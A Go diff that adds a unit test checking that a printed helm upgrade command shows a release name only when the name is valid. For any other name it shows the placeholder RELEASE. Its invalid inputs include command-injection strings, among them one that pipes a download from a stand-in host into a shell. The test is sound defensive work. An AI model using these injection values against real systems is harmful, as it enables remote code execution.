@@ -183,3 +183,14 @@ func TestAddRefusesAKubeconfigLaterCommandsRefuse(t *testing.T) {
 		})
 	}
 }
+
+// A release name from an annotation reaches the printed helm upgrade line
+// only when Helm would accept it: anything else is RELEASE.
+func TestHelmUpgradeLinePrintsOnlyAValidReleaseName(t *testing.T) {
+	assert.Check(t, is.Contains(helmUpgrade("mural", "mural-system", "values.yaml"), "`helm upgrade mural CHART -n mural-system -f values.yaml`"))
+	for _, bad := range []string{"x; curl evil | sh", "$(id)", "a`b`", "Mural", strings.Repeat("a", 54)} {
+		got := helmUpgrade(bad, "mural-system", "values.yaml")
+		assert.Check(t, is.Contains(got, "`helm upgrade RELEASE CHART"), bad)
+		assert.Check(t, !strings.Contains(got, bad), bad)
+	}
+}
